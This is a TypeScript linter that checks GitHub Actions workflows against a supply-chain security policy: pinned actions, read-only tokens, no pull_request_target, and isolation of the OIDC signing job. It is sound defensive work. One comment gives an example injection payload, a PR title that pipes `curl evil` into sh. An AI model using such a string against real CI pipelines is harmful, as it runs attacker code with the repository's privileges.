/**
 * Our own policy for GitHub Actions workflows: a small, offline stand-in for zizmor and the
 * OpenSSF Scorecard checks (Token-Permissions, Dangerous-Workflow, Pinned-Dependencies).
 * actionlint and GitHub's workflow parser check that a workflow is valid; this checks that it
 * is safe for a repository that builds untrusted pull requests and signs its releases.
 *
 * Rules:
 * - `top-level-permissions`: the workflow says what its token may do, and grants no write.
 * - `no-pull-request-target`: never the pull_request_target trigger.
 * - `no-id-token-on-pr`: no `id-token: write` in a workflow that pull requests trigger.
 * - `pinned-actions`: every remote action or reusable workflow pinned to a full commit SHA.
 * - `no-event-in-run`: no attacker-controlled `${{ … }}` expression inside a `run:` script.
 * - `job-write-permissions-scoped`: a job that writes names the scopes it writes (no write-all).
 * - `id-token-runs-recipe-code`: a job that can mint an OIDC token (our signing identity) runs no
 *   recipe code: no build or smoke-test action, no `run:` that builds or runs an image.
 * - `id-token-hosted-runner`: such a job runs on a GitHub-hosted runner (a literal ubuntu-/
 *   windows-/macos- label), except the job that signs only test results (actions/sign with
 *   `roles: test-result` and no other signing step): those are measured on a site's own runner.
 * - `signer-reverifies`: in such a job, the first signing step is actions/sign, which re-hashes
 *   the received builds (`builds:`); actions/attest takes its subjects from that step's outputs
 *   only, never from files (`subject-path`); actions/publish packs the state folder that step
 *   wrote; and no download merges artifacts into one folder (`merge-multiple`).
 * - `yaml-syntax`: the file must parse (nothing else is checked when it does not).
 */
import { isMap, isPair, isScalar, isSeq, LineCounter, parseDocument, type Node, type Pair, type YAMLMap } from 'yaml';

/** A YAML scalar's text (strings, numbers, booleans); '' for anything else (a map, a sequence, null, absent). */
const scalarText = (n: unknown): string => (isScalar(n) && (typeof n.value === 'string' || typeof n.value === 'number' || typeof n.value === 'boolean') ? String(n.value) : '');

export interface PolicyFinding {
  file: string;
  line: number;
  col: number;
  rule: string;
  message: string;
}

export type PolicyRule =
  | 'top-level-permissions'
  | 'no-pull-request-target'
  | 'no-id-token-on-pr'
  | 'pinned-actions'
  | 'no-event-in-run'
  | 'job-write-permissions-scoped'
  | 'id-token-runs-recipe-code'
  | 'id-token-hosted-runner'
  | 'signer-reverifies'
  | 'signer-own-pairs'
  | 'yaml-syntax';

/** `owner/repo[/path]@<40 hex>`: a commit cannot be moved, a tag or branch can. */
const PINNED = /^[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+(?:\/[^@\s]+)?@[0-9a-fA-F]{40}$/;
/** The `# vX.Y.Z` comment that tells a reader (and Dependabot) which release a SHA is. */
const VERSION_COMMENT = /@[0-9a-fA-F]{40}["']?\s+#\s*v\d+(?:\.\d+)*\b/;
/** One `${{ … }}` expression. */
const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;
/**
 * Contexts an outsider controls (titles, bodies, branch names, commit messages, labels…), or
 * that point at them. Inside `run:` they are pasted into the script before the shell parses it.
 */
/** `run:` scripts that build or run an image, i.e. execute recipe code. */
const RECIPE_RUN =
  /\bbrickyard(?:\.js)?\s+(?:build|smoke|run)\b|\bnpm\s+(?:run\s+)?start\b|\bbuildah\b|\bpodman\s+(?:run|build|exec|create|start)\b|\bdocker\s+(?:run|build|exec)\b|\bapptainer\s+(?:run|exec|build|shell)\b|\bsingularity\s+(?:run|exec|build)\b|\bch-run\b|\bsrun\b|\bsbatch\b|\bsalloc\b/;
/** Our actions that build or run recipe code. */
const RECIPE_ACTIONS = /^\.\/actions\/(?:build|smoke-test)\/?$/;
/** Steps that sign or attest with the job's OIDC token. */
const SIGNING_ACTIONS = /^(?:\.\/actions\/(?:sign|publish)\/?|actions\/attest(?:-build-provenance|-sbom)?@.*|sigstore\/.*)$/;
const SIGNING_RUN = /\b(?:cosign|sigstore|gh\s+attestation|brickyard(?:\.js)?\s+(?:attest|bundle))\b/;
/** GitHub-hosted runner labels; anything else (self-hosted labels, groups, expressions) may be a site's machine. */
const HOSTED_LABEL = /^(?:ubuntu|windows|macos)-[A-Za-z0-9.-]+$/;
const UNTRUSTED = /\bgithub\s*(?:\.\s*(?:event_path|event|head_ref)\b|\[\s*['"](?:event_path|event|head_ref)['"]\s*\])/;

export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[] {
  const lineCounter = new LineCounter();
  const doc = parseDocument(text, { lineCounter, prettyErrors: false, uniqueKeys: false });
  const findings: PolicyFinding[] = [];
  const at = (offset: number, rule: PolicyRule, message: string): void => {
    const { line, col } = lineCounter.linePos(offset);
    findings.push({ file, line, col, rule, message });
  };

  if (doc.errors.length > 0) {
    for (const e of doc.errors) at(e.pos[0], 'yaml-syntax', e.message.split('\n')[0] ?? e.message);
    return findings;
  }
  const root = doc.contents;
  if (!isMap(root)) {
    at(start(root), 'yaml-syntax', 'a workflow is a mapping (name, on, permissions, jobs)');
    return findings;
  }

  const onPullRequest = checkTriggers(at, root);
  const top = checkTopPermissions(at, root);
  const jobs = pairOf(root, 'jobs')?.value;
  const scan: WorkflowScan = { text, at, jobPairs: isMap(jobs) ? jobs.items : [] };
  const permissionsBlocks: Pair[] = top ? [top] : [];
  for (const jobPair of scan.jobPairs) {
    const perms = checkJob(scan, jobPair, top);
    if (perms) permissionsBlocks.push(perms);
  }
  // A workflow that pull requests trigger must never be able to mint an OIDC token: that token
  // is the signing identity of our releases (keyless Sigstore), so it belongs only in the
  // signing job of the main/tag workflows.
  if (onPullRequest) {
    for (const block of permissionsBlocks) {
      for (const w of writeGrants(block)) {
        if (w.scope === 'id-token' || w.scope === '*') {
          at(
            w.offset,
            'no-id-token-on-pr',
            `a workflow triggered by pull requests grants ${w.scope === '*' ? 'write-all, which includes id-token: write' : 'id-token: write'}: sign only in the main/tag workflows`,
          );
        }
      }
    }
  }

  return findings.sort((a, b) => a.line - b.line || a.col - b.col || a.rule.localeCompare(b.rule));
}

/** Adds a finding at an offset of the workflow's text. */
type Report = (offset: number, rule: PolicyRule, message: string) => void;

/** One workflow being checked: its text (for the raw lines), where findings go, and its jobs. */
interface WorkflowScan {
  text: string;
  at: Report;
  jobPairs: Pair[];
}

/** Where a YAML node starts in the text; 0 for anything without a range. */
function start(node: unknown): number {
  return node && typeof node === 'object' && 'range' in node && Array.isArray(node.range) ? (node.range[0] as number) : 0;
}

/** The workflow's triggers: refuses pull_request_target; says whether pull requests trigger it. */
function checkTriggers(at: Report, root: YAMLMap): boolean {
  const on = pairOf(root, 'on');
  const triggers = new Map<string, Node | null>();
  if (on) {
    const v = on.value;
    if (isScalar(v)) {
      triggers.set(String(v.value), v);
    } else if (isSeq(v)) {
      for (const item of v.items) if (isScalar(item)) triggers.set(String(item.value), item);
    } else if (isMap(v)) {
      for (const p of v.items) if (isScalar(p.key)) triggers.set(String(p.key.value), p.key);
    }
  }
  // pull_request_target runs with the base repository's secrets and a write token, so checking
  // out or running anything from the pull request is a "pwn request". Build PRs with
  // pull_request, and do privileged follow-ups from a workflow_run workflow.
  const prt = triggers.get('pull_request_target');
  if (prt !== undefined) {
    at(
      start(prt),
      'no-pull-request-target',
      'pull_request_target runs with a write token and secrets next to pull-request code: use pull_request, and a workflow_run workflow for privileged follow-ups',
    );
  }
  return triggers.has('pull_request') || triggers.has('pull_request_target');
}

/** The workflow-level permissions: present, and read-only; returns the pair when there is one. */
function checkTopPermissions(at: Report, root: YAMLMap): Pair | undefined {
  // Without a permissions key the token gets the repository's default, which may be write-all.
  // Every job inherits the top level, so writes are granted per job, where they are needed
  // (Scorecard Token-Permissions).
  const top = pairOf(root, 'permissions');
  if (!top) {
    at(start(root), 'top-level-permissions', 'no top-level permissions: add `permissions: contents: read` (or `{}`) and grant writes per job');
  } else {
    for (const w of writeGrants(top)) {
      at(w.offset, 'top-level-permissions', `the top-level permissions grant ${w.what}: keep the top level read-only and grant writes in the job that needs them`);
    }
  }
  return top;
}

/** One job: its permissions, the actions and scripts of its steps, and, if it can mint a token, the signing rules. Returns its permissions pair. */
function checkJob(scan: WorkflowScan, jobPair: Pair, top: Pair | undefined): Pair | undefined {
  const job = jobPair.value;
  if (!isMap(job)) return undefined;
  const jobId = isScalar(jobPair.key) ? String(jobPair.key.value) : '?';
  const perms = pairOf(job, 'permissions');
  // write-all hands the job every scope, id-token and contents included, when it almost
  // always needs one or two: list them, so a review sees what the job can do.
  if (perms && isScalar(perms.value) && String(perms.value.value) === 'write-all') {
    scan.at(start(perms.value), 'job-write-permissions-scoped', `job ${jobId} grants write-all: list only the scopes it writes (e.g. pull-requests: write)`);
  }

  // A reusable workflow called by the job.
  const jobUses = pairOf(job, 'uses');
  if (jobUses && isScalar(jobUses.value)) checkUses(scan, jobUses.value);

  const steps = pairOf(job, 'steps')?.value;
  if (!isSeq(steps)) return perms;
  for (const step of steps.items) {
    if (!isMap(step)) continue;
    const uses = pairOf(step, 'uses');
    if (uses && isScalar(uses.value)) checkUses(scan, uses.value);
    const run = pairOf(step, 'run');
    if (run && isScalar(run.value)) checkRun(scan, run.value);
  }
  const mintsToken = (perms ? writeGrants(perms) : top ? writeGrants(top) : []).some((w) => w.scope === 'id-token' || w.scope === '*');
  if (mintsToken)
    checkSigningJob(
      scan,
      jobId,
      job,
      steps.items.filter((x): x is YAMLMap => isMap(x)),
    );
  return perms;
}

/** A scalar field: its trimmed text and its node (where a finding points). */
function field(m: YAMLMap, key: string): { text: string; node: Node } | undefined {
  const v = pairOf(m, key)?.value;
  return isScalar<string | number | boolean | null>(v) && v.value !== null ? { text: String(v.value).trim(), node: v } : undefined;
}

function str(m: YAMLMap, key: string): string | undefined {
  return field(m, key)?.text;
}

function withOf(m: YAMLMap): YAMLMap | undefined {
  const w = pairOf(m, 'with')?.value;
  return isMap(w) ? w : undefined;
}

function isSign(st: YAMLMap): boolean {
  return /^\.\/actions\/sign\/?$/.test(str(st, 'uses') ?? '');
}

// The job that holds the signing identity is what an attacker wants to make sign: it must run
// nothing an attacker wrote (recipe code), on a machine no recipe ran on, and sign only what it
// re-hashed itself.
function checkSigningJob(scan: WorkflowScan, jobId: string, job: YAMLMap, steps: YAMLMap[]): void {
  const signing = steps.filter((st) => SIGNING_ACTIONS.test(str(st, 'uses') ?? '') || SIGNING_RUN.test(str(st, 'run') ?? ''));
  checkRunsNoRecipeCode(scan.at, jobId, steps);
  checkHostedRunner(scan.at, jobId, job, signing);
  for (const st of steps) {
    const w = withOf(st);
    const merge = w && field(w, 'merge-multiple');
    if ((str(st, 'uses') ?? '').startsWith('actions/download-artifact@') && merge?.text === 'true') {
      scan.at(
        start(merge.node),
        'signer-reverifies',
        `job ${jobId} signs and merges downloaded artifacts into one folder: one pair's artifact could overwrite another's; download each into a folder of its own name`,
      );
    }
  }
  checkSignerReverifies(scan, jobId, steps, signing);
}

/** No build or smoke-test action and no `run:` that builds or runs an image in a job that can mint a token. */
function checkRunsNoRecipeCode(at: Report, jobId: string, steps: YAMLMap[]): void {
  for (const st of steps) {
    const uses = field(st, 'uses');
    const run = field(st, 'run');
    const runsRecipe = run && RECIPE_RUN.exec(run.text);
    if (uses && RECIPE_ACTIONS.test(uses.text))
      at(
        start(uses.node),
        'id-token-runs-recipe-code',
        `job ${jobId} can mint an OIDC token and runs ${uses.text}, which runs recipe code: build and smoke-test in a job without id-token: write`,
      );
    else if (run && runsRecipe)
      at(
        start(run.node),
        'id-token-runs-recipe-code',
        `job ${jobId} can mint an OIDC token and its run: step builds or runs an image (${runsRecipe[0]}): do that in a job without id-token: write`,
      );
  }
}

/** A job that can mint a token runs on a GitHub-hosted runner, unless it signs nothing but test results. */
function checkHostedRunner(at: Report, jobId: string, job: YAMLMap, signing: YAMLMap[]): void {
  // Test results measured on a site's runner are signed there, by a job that signs nothing else.
  const signsTestResults = (st: YAMLMap): boolean => {
    const w = withOf(st);
    return isSign(st) && w !== undefined && str(w, 'roles') === 'test-result';
  };
  const testResultsOnly = signing.length > 0 && signing.every(signsTestResults);
  const runsOn = pairOf(job, 'runs-on');
  if (testResultsOnly || pairOf(job, 'uses')) return;
  const v = runsOn?.value;
  const hosted = isScalar(v) ? HOSTED_LABEL.test(String(v.value)) : isSeq(v) && v.items.length === 1 && isScalar(v.items[0]) && HOSTED_LABEL.test(String(v.items[0].value));
  if (!hosted) {
    at(
      start(runsOn?.value ?? job),
      'id-token-hosted-runner',
      `job ${jobId} can mint an OIDC token but does not run on a GitHub-hosted runner (runs-on: ubuntu-…): a self-hosted runner may have run recipe code; only the job signing nothing but test results (actions/sign with roles: test-result) may`,
    );
  }
}

/** The first signing step re-hashes what the job received (./actions/sign with builds:), and every later one signs only that. */
function checkSignerReverifies(scan: WorkflowScan, jobId: string, steps: YAMLMap[], signing: YAMLMap[]): void {
  const [first] = signing;
  if (first === undefined) return;
  // A job that receives nothing (no artifact, no cache) and builds Brickyard's own executables
  // from the checked-out tag before it signs them signs only digests it computed itself.
  const receives = steps.some((st) => /^actions\/(?:download-artifact|cache)(?:\/restore)?@/.test(str(st, 'uses') ?? ''));
  const buildsItself = steps.slice(0, steps.indexOf(first)).some((st) => /\bnpm run build:sea\b/.test(str(st, 'run') ?? ''));
  if (!receives && buildsItself) return;
  const firstWith = withOf(first);
  // The re-hashing step's `with:`; undefined when the first signing step is not one.
  const verifyWith = isSign(first) && firstWith && str(firstWith, 'builds') ? firstWith : undefined;
  if (!verifyWith) {
    scan.at(
      start(first),
      'signer-reverifies',
      `job ${jobId} signs before re-verifying its inputs: its first signing step must be ./actions/sign with builds: (which re-hashes every received layout and derives the subjects)`,
    );
    return;
  }
  const verify = first;
  checkOwnPairs(scan, jobId, verify, steps);
  const verifyId = str(verify, 'id');
  const verifyState = str(verifyWith, 'state-dir') ?? '.brickyard';
  for (const st of signing.slice(1)) checkLaterSigningStep(scan.at, jobId, st, verifyId, verifyState);
}

/** A signing step after the re-hashing one: attest its outputs, publish its state folder, or re-verify itself. */
function checkLaterSigningStep(at: Report, jobId: string, st: YAMLMap, verifyId: string | undefined, verifyState: string): void {
  const uses = str(st, 'uses') ?? '';
  const w = withOf(st);
  if (uses.startsWith('actions/attest')) {
    const subjectKeys = ['subject-digest', 'subject-checksums', 'subject-path', 'subject-name'];
    const given = w ? subjectKeys.filter((k) => pairOf(w, k)) : [];
    const subjectPath = w && pairOf(w, 'subject-path');
    if (subjectPath)
      at(
        start(subjectPath.value),
        'signer-reverifies',
        `job ${jobId} attests files it received (subject-path): take the subjects from the re-hashing step (subject-checksums: \${{ steps.<id>.outputs.subject-checksums }})`,
      );
    const fromVerify = (m: YAMLMap, k: string): boolean =>
      verifyId !== undefined && new RegExp(`^\\$\\{\\{\\s*steps\\.${verifyId.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\.outputs\\.[A-Za-z0-9_-]+\\s*\\}\\}$`).test(str(m, k) ?? '');
    const digestKey = given.find((k) => k === 'subject-digest' || k === 'subject-checksums');
    if (!w || !digestKey || !fromVerify(w, digestKey)) {
      at(
        start(st),
        'signer-reverifies',
        `job ${jobId} attests a subject that does not come from the re-hashing step: set subject-checksums to \${{ steps.${verifyId ?? '<id of ./actions/sign>'}.outputs.subject-checksums }}`,
      );
    }
  } else if (/^\.\/actions\/publish\/?$/.test(uses)) {
    const state = (w && str(w, 'state-dir')) ?? '.brickyard';
    if (state !== verifyState)
      at(
        start(st),
        'signer-reverifies',
        `job ${jobId} packs ${state}, not the state folder the re-hashing step wrote (${verifyState}): pack only what the signer verified and signed`,
      );
  } else if (isSign(st) && !(w && str(w, 'builds'))) {
    at(start(st), 'signer-reverifies', `job ${jobId} signs with ./actions/sign without builds: every signing step re-verifies what it signs`);
  } else if (!isSign(st) && !uses.startsWith('./actions/publish')) {
    at(
      start(st),
      'signer-reverifies',
      `job ${jobId} signs with ${uses || 'a run: step'}, which does not re-verify what it signs: sign with ./actions/sign (builds:) and ./actions/publish only`,
    );
  }
}

// Which pairs the signer signs is decided by jobs that run no recipe code: the plan job's output
// (pairs:), or the signing job's own plan step (batches-file:). A build job, or a reusable
// workflow that builds, could otherwise choose what is signed.
function checkOwnPairs({ at, jobPairs }: WorkflowScan, jobId: string, sign: YAMLMap, steps: YAMLMap[]): void {
  const w = pairOf(sign, 'with')?.value;
  if (!isMap(w)) return;
  const value = (key: string): { text: string; node: Node } | undefined => {
    const p = pairOf(w, key);
    return p && isScalar(p.value) && p.value.value !== null ? { text: scalarText(p.value).trim(), node: p.value } : undefined;
  };
  const pairs = value('pairs');
  if (pairs) {
    const m = /^\$\{\{\s*needs\.([A-Za-z0-9_-]+)\.outputs\.[A-Za-z0-9_-]+\s*\}\}$/.exec(pairs.text);
    const source = m ? jobPairs.find((p) => isScalar(p.key) && String(p.key.value) === m[1])?.value : undefined;
    const trusted =
      isMap(source) &&
      !pairOf(source, 'uses') &&
      (() => {
        const st = pairOf(source, 'steps')?.value;
        return (
          isSeq(st) &&
          st.items.every((x) => !isMap(x) || (!RECIPE_ACTIONS.test(scalarText(pairOf(x, 'uses')?.value).trim()) && !RECIPE_RUN.test(scalarText(pairOf(x, 'run')?.value))))
        );
      })();
    if (!trusted)
      at(
        start(pairs.node),
        'signer-own-pairs',
        `job ${jobId} signs the pairs ${pairs.text}: take them from a job of this workflow that runs no recipe code (needs.plan.outputs.…) or from this job's own ./actions/plan (batches-file)`,
      );
  }
  const file = value('batches-file');
  if (file) {
    const m = /^\$\{\{\s*steps\.([A-Za-z0-9_-]+)\.outputs\.batches-file\s*\}\}$/.exec(file.text);
    const own = m
      ? steps.slice(0, steps.indexOf(sign)).find((st) => {
          const id = pairOf(st, 'id')?.value;
          return isScalar(id) && String(id.value) === m[1];
        })
      : undefined;
    const isPlan = own !== undefined && /^\.\/actions\/plan\/?$/.test(scalarText(pairOf(own, 'uses')?.value).trim());
    if (!isPlan)
      at(
        start(file.node),
        'signer-own-pairs',
        `job ${jobId} reads its batch from ${file.text}: pass the batches-file output of an earlier ./actions/plan step of this job, never a file another job made`,
      );
  }
}

// A tag or branch of someone else's repository can be moved to new code at any time; a full
// commit SHA cannot. Local actions (./…) come from the checked-out commit itself, and docker://
// images are out of scope here.
function checkUses({ text, at }: WorkflowScan, node: Node): void {
  if (!isScalar(node)) return;
  const ref = String(node.value).trim();
  if (ref.startsWith('./') || ref.startsWith('docker://')) return;
  if (!PINNED.test(ref)) {
    at(start(node), 'pinned-actions', `${ref} is not pinned to a full commit SHA: use owner/repo@<40-hex sha> # vX.Y.Z`);
    return;
  }
  const line = lineOf(text, start(node));
  if (!VERSION_COMMENT.test(line)) {
    at(start(node), 'pinned-actions', `${ref} has no "# vX.Y.Z" comment saying which release the SHA is`);
  }
}

// `${{ }}` is expanded into the script text before the shell sees it, so a PR title such as
// `"; curl evil | sh; #` becomes code. Pass such values through `env:` and quote "$VAR".
function checkRun({ text, at }: WorkflowScan, node: Node): void {
  if (!isScalar(node) || !Array.isArray(node.range)) return;
  const [from, , to] = node.range;
  const raw = text.slice(from, to);
  let found = 0;
  for (const m of raw.matchAll(EXPRESSION)) {
    const expr = (m[1] ?? '').trim();
    if (!UNTRUSTED.test(expr)) continue;
    found++;
    at(from + m.index, 'no-event-in-run', `\${{ ${expr} }} inside run: is untrusted input pasted into the script: pass it through env: and use "$VAR"`);
  }
  if (found === 0) {
    // Escapes in a quoted scalar can hide an expression from the raw text.
    for (const m of String(node.value).matchAll(EXPRESSION)) {
      const expr = (m[1] ?? '').trim();
      if (UNTRUSTED.test(expr)) at(from, 'no-event-in-run', `\${{ ${expr} }} inside run: is untrusted input pasted into the script: pass it through env: and use "$VAR"`);
    }
  }
}

function lineOf(text: string, offset: number): string {
  const s = text.lastIndexOf('\n', offset - 1) + 1;
  const e = text.indexOf('\n', offset);
  return text.slice(s, e === -1 ? text.length : e);
}

/** The write grants of a `permissions:` pair: `write-all` (scope `*`), any `<scope>: write`, or an unknown value. */
function writeGrants(pair: Pair): { scope: string; what: string; offset: number }[] {
  const v = pair.value;
  if (v === null || v === undefined) return []; // `permissions:` with nothing is `{}`
  if (isScalar<string | number | boolean | null>(v)) {
    const s = String(v.value ?? '');
    if (s === 'read-all' || s === '' || v.value === null) return [];
    if (s === 'write-all') return [{ scope: '*', what: 'write-all', offset: start(v) }];
    return [{ scope: '?', what: `"${s}" (only read-all, {} or a map of read/none are read-only)`, offset: start(v) }];
  }
  if (!isMap(v)) return [{ scope: '?', what: 'something that is not a map', offset: start(v) }];
  const out: { scope: string; what: string; offset: number }[] = [];
  for (const p of v.items) {
    const scope = isScalar(p.key) ? String(p.key.value) : '?';
    const level = isScalar(p.value) ? String(p.value.value) : '';
    if (level === 'read' || level === 'none') continue;
    out.push({ scope, what: `${scope}: ${level || '?'}`, offset: start(p.key) });
  }
  return out;
}

function pairOf(map: YAMLMap, key: string): Pair | undefined {
  return (map.items as unknown[]).find((p): p is Pair => isPair(p) && isScalar(p.key) && String(p.key.value) === key);
}
